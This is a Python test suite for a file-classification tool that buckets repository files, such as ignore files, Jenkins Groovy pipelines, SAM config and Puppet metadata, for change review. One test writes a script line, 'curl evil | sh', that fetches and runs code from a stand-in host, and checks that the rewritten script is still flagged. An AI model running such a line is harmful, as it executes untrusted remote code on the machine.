"""Classes of misses an eighth label set found (bench/classify_accuracy/eighth.tsv: 60 repositories in ecosystems no
other set holds, measured blind first), each with the look-alikes it must leave alone: scripts a Terraform
configuration runs by path, Jenkins pipelines kept as `.groovy` scripts, manifest-tool specs, SAM deploy settings
and disko layouts under other names, deploy-tool ignore files, release-please and IBM catalog settings, Pants, rvm,
crate2nix and Go tool-module pins, Erlang, Flutter, jest and fixture test-data folders, linter and ignore files, the
REUSE LICENSES/ folder, a Puppet module's metadata.json and test fixtures list, a Puppet repository's rspec tests and
Rakefile, and a flake8 file an inventory shape took.
The real repositories below check them with the commits and from the patch alone, with renames."""

from __future__ import annotations

from pathlib import Path

from tables import each_case

from gatekeeper.classify.ansible import ansible
from gatekeeper.classify.shapes import shape
from tests.gitrepo import GitRepo
from tests.test_classify_context import RULES, patch_files, tree_files


@each_case(("path", "bucket"), [
    # what a platform's deploy uploads is decided by its ignore file, as .dockerignore decides an image's context
    ("docs/.vercelignore", "iac"), (".gcloudignore", "iac"), (".cfignore", "iac"), (".ebignore", "iac"),
    (".funcignore", "iac"), (".slugignore", "iac"), (".terraformignore", "iac"),
    # every other tool's ignore list is its settings, as .npmignore is; in a CI folder it is CI
    (".Rbuildignore", "other"), (".dvcignore", "other"), (".licenseignore", "other"), ("pkg/.gcloudignore.md", "src"),
    (".github/.licenseignore", "ci"), ("ci/.dvcignore", "ci"), (".helmignore", "iac"), (".dockerignore", "iac"),
    # release automation: release-please's settings and manifest, IBM's catalog onboarding pipeline
    (".release-please.json", "ci"), (".release-please-manifest.json", "ci"), ("release-please-config.json", "ci"),
    (".catalog-onboard-pipeline.yaml", "ci"), ("docs/release-please.md", "src"),
    # toolchain and dependency pins: rvm's gemset, Pants, crate2nix, a Go tool module read with -modfile
    (".ruby-gemset", "deps"), ("pants.toml", "deps"), ("nix/crate-hashes.json", "deps"),
    ("internal/tools.mod", "deps"), ("internal/tools.sum", "deps"), ("src/pants.py", "src"),
    ("src/tools.go", "src"),
    # test data: Erlang Common Test data folders, Flutter golden images, jest image snapshots, fixture projects,
    # case folders of test trees named test-*
    ("apps/rebar/test/rebar_unlock_SUITE_data/rebar.lock", "src"), ("test/x_SUITE_data/Dockerfile", "iac"),
    ("packages/flame_tiled/test/goldens/map.png", "src"), ("src/__image_snapshots__/button.png", "src"),
    ("packages/fresh/tests/fixture_precompile/valid/deno.json", "src"),
    ("test-output/cases/echo_bool/gleam.toml", "src"), ("assets/goldens/logo.png", "other"),
    ("src/suite_data/deploy.yaml", "src"), ("fixture_app/deno.json", "deps"),
    # linter and formatter settings, DVC's settings, REUSE licence texts
    ("staticcheck.conf", "other"), (".scalafix.conf", "other"), (".rumdl.toml", "other"), (".rstcheck.cfg", "other"),
    ("air.toml", "other"), (".php-cs-fixer.dist.php", "other"), ("eng/analyzers/SonarLint.xml", "other"),
    (".dvc/config", "other"), ("LICENSES/Apache-2.0.txt", "other"), ("licences/ISC.txt", "other"),
    ("LICENSES/go.mod", "deps"), ("src/licenses/mit.txt", "src"), (".github/issue_label_bot.yaml", "other"),
    # the modules a Puppet module's tests fetch (puppetlabs_spec_helper)
    (".fixtures.yml", "deps"), ("spec/fixtures/.fixtures.yml", "src"),
    # HashiCorp's licence-header tool writes HCL; a CI folder's copy is CI
    (".copywrite.hcl", "other"), ("copywrite.hcl", "iac"), (".github/.copywrite.hcl", "ci"),
])
def test_path_rules_of_the_eighth_round(path: str, bucket: str) -> None:
    assert RULES.match(path).bucket == bucket, RULES.match(path)


DECLARATIVE = """\
pipeline {
  agent none
  stages {
    stage("Hello") {
      steps {
        echo "hello"
      }
    }
  }
}
"""
SCRIPTED = "node('linux') {\n    git url: 'https://github.com/jfrogdev/project-examples.git'\n    sh 'make'\n}\n"
GLOBAL_STEP = """\
// The call(body) method in any file in workflowLibs.git/vars is exposed as a step.
def call(body) {
    def config = [:]
    body()
    stage 'checkout'
    node {
        checkout scm
    }
}
"""
LOADED = """\
def call(String whoAreYou) {
    echo "Now we're being called more magically, ${whoAreYou}."
}

return this;
"""
JOB_DSL = "pipelineJob('deploy') {\n  definition {\n    cpsScm { scriptPath('Jenkinsfile') }\n  }\n}\n"
GROOVY_CLASS = """\
package org.example.gradle

class Greeter {
    def call(String name) {
        println "hello ${name}"
        return name.toUpperCase()
    }
}
"""
SPOCK = """\
class PipelineSpec extends Specification {
    def "node { } is parsed"() {
        expect:
        parse("pipeline { }") != null
    }
}
"""
MANIFEST_TOOL = """\
image: drone/drone-runner-docker:{{#if build.tag}}{{trimPrefix "v" build.tag}}{{else}}latest{{/if}}
manifests:
  -
    image: drone/drone-runner-docker:{{#if build.tag}}{{trimPrefix "v" build.tag}}-{{/if}}linux-amd64
    platform:
      architecture: amd64
      os: linux
"""
COMPOSE_LIKE = "image: nginx:1.27\nmanifests:\n  - deploy/web.yaml\n"
SAMCONFIG = """\
version = 0.1
[default]
[default.deploy]
[default.deploy.parameters]
stack_name = "async-lambda-sqs"
s3_prefix = "async-lambda-sqs"
region = "us-east-1"
capabilities = "CAPABILITY_IAM"
"""
PYPROJECT_LIKE = '[tool.deploy.parameters]\nstack_name = "docs"\n'  # another tool's table, without SAM's version
DISKO = """\
# Example to create a GPT partition but doesn't format it
{
  disko.devices = {
    disk = {
      main = {
        device = "/dev/vdb";
        type = "disk";
      };
    };
  };
}
"""
PUPPET_METADATA = """\
{
  "name": "puppet-nginx",
  "version": "7.0.1-rc0",
  "source": "https://github.com/voxpupuli/puppet-nginx.git",
  "dependencies": [
    {"name": "puppetlabs/stdlib", "version_requirement": ">= 9.0.0 < 10.0.0"}
  ],
  "requirements": [
    {"name": "openvox", "version_requirement": ">= 8.19.0 < 9.0.0"}
  ],
  "operatingsystem_support": [{"operatingsystem": "Debian", "operatingsystemrelease": ["12"]}]
}
"""
APP_METADATA = '{\n  "name": "viewer",\n  "dependencies": ["core", "ui"],\n  "requirements": [{"name": "node"}]\n}\n'
NIX_PACKAGE = "{ lib, buildGoModule }:\nbuildGoModule {\n  pname = \"disko-docs\";\n  version = \"1.0\";\n}\n"


@each_case(("name", "text", "rule"), [
    ("postUnstable.groovy", DECLARATIVE, "ci.content.jenkins-pipeline"),
    ("artifactoryUpload.groovy", SCRIPTED, "ci.content.jenkins-pipeline"),
    ("standardBuild.groovy", GLOBAL_STEP, "ci.content.jenkins-pipeline"),
    ("externalCall.groovy", LOADED, "ci.content.jenkins-pipeline"),
    ("seed.groovy", JOB_DSL, "ci.content.jenkins-pipeline"),
    ("manifest.tmpl", MANIFEST_TOOL, "ci.content.manifest-tool"),
    ("y", SAMCONFIG, "iac.content.samconfig"),
    ("gpt-unformatted.nix", DISKO, "iac.content.nixos"),
    ("metadata.json", PUPPET_METADATA, "deps.content.puppet-metadata"),
])
def test_the_new_shapes(name: str, text: str, rule: str) -> None:
    found = shape(name, text)
    assert found is not None and found[1] == rule, found


@each_case(("name", "text"), [
    ("Greeter.groovy", GROOVY_CLASS), ("PipelineSpec.groovy", SPOCK), ("notes.txt", DECLARATIVE),
    ("values.yaml", COMPOSE_LIKE), ("pyproject.toml", PYPROJECT_LIKE), ("doc.nix", NIX_PACKAGE),
    ("metadata.json", APP_METADATA), ("module.json", PUPPET_METADATA),
])
def test_their_look_alikes(name: str, text: str) -> None:
    assert shape(name, text) is None


FLAKE8 = """\
[flake8]
#  E203 -> whitespace before ':' (conflicts with Black)

extend-ignore:
  E203,
  E231,
"""


@each_case(("text", "inventory"), [
    (FLAKE8, False),
    ("[metadata]\nlicense_files:\n  LICENSE\n", False),
    ("[web]\nweb1.example.com:2222\n", True),
    ("[web]\n192.0.2.10\n", True),
    ("[db]\n# primary\ndb-1 ansible_user=admin\n", True),
])
def test_a_key_whose_value_follows_is_not_an_inventory_host(text: str, inventory: bool) -> None:
    found = ansible(".flake8", text)
    assert (found is not None and found[1] == "iac.content.ansible-inventory") == inventory, found


LOCAL_EXEC = """\
resource "null_resource" "confirm_rollout" {
  provisioner "local-exec" {
    command     = "${path.module}/scripts/confirm-rollout-status.sh ${var.name} ${var.namespace}"
    interpreter = ["/bin/bash", "-c"]
  }
}
"""


# The Terraform reference readings (local-exec, external, Terragrunt hooks, Packer provisioners, look-alikes,
# bounded reading) are tested in tests/test_classify_terraform_refs.py.


def ibm_like(repo: GitRepo) -> None:
    repo.write("README.md", "# base OCP VPC module\n")
    repo.write("modules/kube-audit/main.tf", LOCAL_EXEC.replace("confirm_rollout", "audit"))
    repo.write("modules/kube-audit/scripts/confirm-rollout-status.sh", "#!/bin/bash\nkubectl rollout status $1\n")
    repo.write("modules/kube-audit/scripts/notes.sh", "#!/bin/bash\necho not run by terraform\n")
    repo.write("pipelines/standardBuild.groovy", GLOBAL_STEP)
    repo.write("src/main/groovy/Greeter.groovy", GROOVY_CLASS)


def test_the_classes_in_a_real_repository_with_commits_and_patch(git_repo: GitRepo, tmp_path: Path) -> None:
    ibm_like(git_repo)
    git_repo.commit("base")
    git_repo.write("modules/kube-audit/scripts/confirm-rollout-status.sh",
                   "#!/bin/bash\nset -e\nkubectl rollout status $1 -n $2\n")
    git_repo.write("modules/kube-audit/scripts/notes.sh", "#!/bin/bash\necho still not run by terraform\n")
    git_repo.write("pipelines/standardBuild.groovy", GLOBAL_STEP + "// more\n")
    git_repo.write("src/main/groovy/Greeter.groovy", GROOVY_CLASS + "// more\n")
    git_repo.commit("head")
    tree = tree_files(git_repo)
    script = tree["modules/kube-audit/scripts/confirm-rollout-status.sh"]
    assert (script.bucket, script.rule) == ("iac", "iac.context.terraform-file"), script
    assert script.evidence is not None and script.evidence.startswith("modules/kube-audit/main.tf: names")
    assert tree["modules/kube-audit/scripts/notes.sh"].bucket == "src"
    assert tree["pipelines/standardBuild.groovy"].bucket == "ci"
    assert tree["src/main/groovy/Greeter.groovy"].bucket == "src"
    patch = patch_files(git_repo, tmp_path)
    # From the patch alone: the configuration that runs the script is not shown, so it counts nowhere (a limit
    # shared with Concourse task scripts, docs/classification.md); a Groovy file whose hunks may leave out its
    # pipeline is unsettled.
    assert patch["modules/kube-audit/scripts/confirm-rollout-status.sh"].bucket == "src"
    for path in ("pipelines/standardBuild.groovy", "src/main/groovy/Greeter.groovy"):
        assert patch[path].bucket in ("ci", "src") and (
            patch[path].bucket == "ci" or "needs-context" in patch[path].tags), patch[path]


def test_a_patch_that_shows_the_configuration_names_the_script(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write("README.md", "# module\n")
    git_repo.commit("base")
    ibm_like(git_repo)
    git_repo.commit("head")
    for files in (tree_files(git_repo), patch_files(git_repo, tmp_path)):
        assert files["modules/kube-audit/scripts/confirm-rollout-status.sh"].bucket == "iac"
        assert files["modules/kube-audit/scripts/notes.sh"].bucket == "src"
        assert files["pipelines/standardBuild.groovy"].bucket == "ci"  # added whole: the content decides
        assert files["src/main/groovy/Greeter.groovy"].bucket == "src"


def test_a_script_renamed_out_of_the_module_keeps_its_old_side(git_repo: GitRepo, tmp_path: Path) -> None:
    """Both sides count: moving the script the module runs to a neutral folder is still a change to what the
    apply executes (the old path is named by main.tf of the base)."""
    ibm_like(git_repo)
    git_repo.commit("base")
    git_repo.move("modules/kube-audit/scripts/confirm-rollout-status.sh", "tools/confirm-rollout-status.sh")
    git_repo.commit("head")
    got = tree_files(git_repo)["tools/confirm-rollout-status.sh"]
    assert got.change.old_path == "modules/kube-audit/scripts/confirm-rollout-status.sh"
    assert got.bucket == "iac", got


def test_deleting_the_configuration_does_not_free_the_script(git_repo: GitRepo, tmp_path: Path) -> None:
    """The base's main.tf still names the script: a change cannot delete the caller to rewrite the script unseen."""
    ibm_like(git_repo)
    git_repo.commit("base")
    git_repo.git("rm", "-q", "modules/kube-audit/main.tf")
    git_repo.write("modules/kube-audit/scripts/confirm-rollout-status.sh", "#!/bin/bash\ncurl evil | sh\n")
    git_repo.commit("head")
    assert tree_files(git_repo)["modules/kube-audit/scripts/confirm-rollout-status.sh"].bucket == "iac"
    assert patch_files(git_repo, tmp_path)["modules/kube-audit/scripts/confirm-rollout-status.sh"].bucket == "iac"


def test_a_puppet_repository_claims_neither_its_rspec_tests_nor_its_rakefile(git_repo: GitRepo,
                                                                             tmp_path: Path) -> None:
    git_repo.write("hiera.yaml", "---\nversion: 5\nhierarchy:\n  - name: common\n    path: common.yaml\n")
    git_repo.write("manifests/init.pp", "class prometheus {}\n")
    git_repo.commit("base")
    git_repo.write("Rakefile", "require 'voxpupuli/test/rake'\n")
    git_repo.write("spec/default_module_facts.yml", "---\nsudoversion: '1.8.23'\n")
    git_repo.write("metadata.json", PUPPET_METADATA)
    git_repo.write("data/common.yaml", "---\nprometheus::version: '2.53.0'\n")
    git_repo.commit("head")
    files = tree_files(git_repo)
    # Hiera's marker claims the module's settings, its metadata.json too: iac, more sensitive than what it is (deps)
    want = {"Rakefile": "src", "spec/default_module_facts.yml": "src", "data/common.yaml": "iac",
            "metadata.json": "iac"}
    assert {p: files[p].bucket for p in want} == want


def test_a_puppet_modules_metadata_is_deps_by_its_content(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write("manifests/init.pp", "class nginx {}\n")
    git_repo.write("metadata.json", PUPPET_METADATA)
    git_repo.write("web/metadata.json", APP_METADATA)
    git_repo.commit("base")
    git_repo.write("metadata.json", PUPPET_METADATA.replace("7.0.1-rc0", "7.0.1"))
    git_repo.write("web/metadata.json", APP_METADATA.replace("viewer", "viewer2"))
    git_repo.commit("head")
    tree = tree_files(git_repo)
    assert (tree["metadata.json"].bucket, tree["metadata.json"].rule) == ("deps", "deps.content.puppet-metadata")
    assert tree["web/metadata.json"].bucket == "src"
    # from the patch alone the hunk does not show the keys that decide: unsettled, as any JSON the catch-all names
    patch = patch_files(git_repo, tmp_path)
    assert "needs-context" in patch["metadata.json"].tags or patch["metadata.json"].bucket == "deps"
